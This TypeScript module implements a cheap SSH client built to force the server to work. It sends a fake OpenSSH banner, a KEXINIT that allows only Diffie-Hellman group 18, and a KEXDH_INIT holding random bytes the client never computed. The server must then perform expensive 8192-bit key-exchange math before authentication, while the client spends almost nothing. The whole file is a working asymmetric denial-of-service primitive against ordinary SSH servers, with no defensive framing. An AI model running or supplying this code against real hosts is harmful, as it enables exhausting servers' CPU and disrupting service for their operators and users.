// An SSH client that costs nothing and makes the server compute: KEXINIT, then KEXDH_INIT of group 18 (RFC 4253, RFC 8268).
import { randomBytes } from 'node:crypto'
import type { Socket } from 'node:net'

const KEXINIT = 20
const KEXDH_INIT = 30
const GROUP_BYTES = 1_024

/** Resolves once the server has closed, or answered more than its own KEXINIT. */
export function group18Exchange(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    let received = 0
    socket.on('data', (data: Buffer) => {
      received += data.length
      // A reply of group 18 has more than 1,024 bytes behind the KEXINIT.
      if (received > 2_500) resolve()
    })
    socket.once('close', () => resolve())
    socket.resume()
    socket.write('SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n')
    socket.write(Buffer.concat([packet(kexInit()), packet(kexDhInit())]))
  })
}

/** The binary packet without encryption: length, padding length, payload, padding (RFC 4253, 6). */
function packet(payload: Buffer): Buffer {
  const padding = 8 - ((payload.length + 5) % 8) + 4
  const full = padding + ((8 - ((5 + payload.length + padding) % 8)) % 8)
  const head = Buffer.alloc(5)
  head.writeUInt32BE(1 + payload.length + full)
  head[4] = full
  return Buffer.concat([head, payload, randomBytes(full)])
}

function kexInit(): Buffer {
  const ciphers = 'aes128-ctr'
  const macs = 'hmac-sha2-256'
  const lists = [
    'diffie-hellman-group18-sha512',
    'ssh-ed25519,rsa-sha2-512',
    ...[ciphers, ciphers, macs, macs, 'none', 'none', '', ''],
  ]
  return Buffer.concat([Buffer.of(KEXINIT), randomBytes(16), ...lists.map(text), Buffer.alloc(5)])
}

/** A number that is none of the weak ones: it needs no computation. */
function kexDhInit(): Buffer {
  const number = randomBytes(GROUP_BYTES)
  number[0] = 0x40
  return Buffer.concat([Buffer.of(KEXDH_INIT), text(number)])
}

function text(value: string | Buffer): Buffer {
  const bytes = Buffer.from(value as string)
  const length = Buffer.alloc(4)
  length.writeUInt32BE(bytes.length)
  return Buffer.concat([length, bytes])
}
